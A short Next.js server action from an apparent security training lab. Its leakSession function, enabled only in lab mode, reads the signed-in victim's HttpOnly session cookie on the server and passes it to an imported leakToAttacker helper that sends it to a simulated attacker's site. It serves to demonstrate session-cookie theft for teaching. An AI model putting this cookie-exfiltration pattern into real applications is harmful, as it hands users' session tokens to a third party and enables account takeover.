"use server";

import { notFound } from "next/navigation";
import { servedOverHttps } from "@/lib/env";
import { labMode } from "@/lib/lab/flaws";
import { noteLeaked } from "@/lib/lab/issued-to";
import { leakToAttacker } from "@/lib/lab/leak";
import { readSessionCookie, sessionCookieName } from "@/lib/session/cookies";
import { protectedAction } from "@/lib/session/guard";

export type LeakState = "sent" | "no-attacker" | null;

/**
 * The victim's own session, handed to the attacker's site (lib/lab/leak.ts): signed in, like any
 * action on a session, and only in a lab. The cookie is read here on the server: it stays HttpOnly.
 */
export const leakSession = protectedAction<LeakState>({ tier: "low" }, async () => {
  if (!labMode()) notFound();
  const token = await readSessionCookie();
  if (token) noteLeaked(token);
  const sent = token ? await leakToAttacker(sessionCookieName(servedOverHttps()), token) : false;
  return sent ? "sent" : "no-attacker";
});
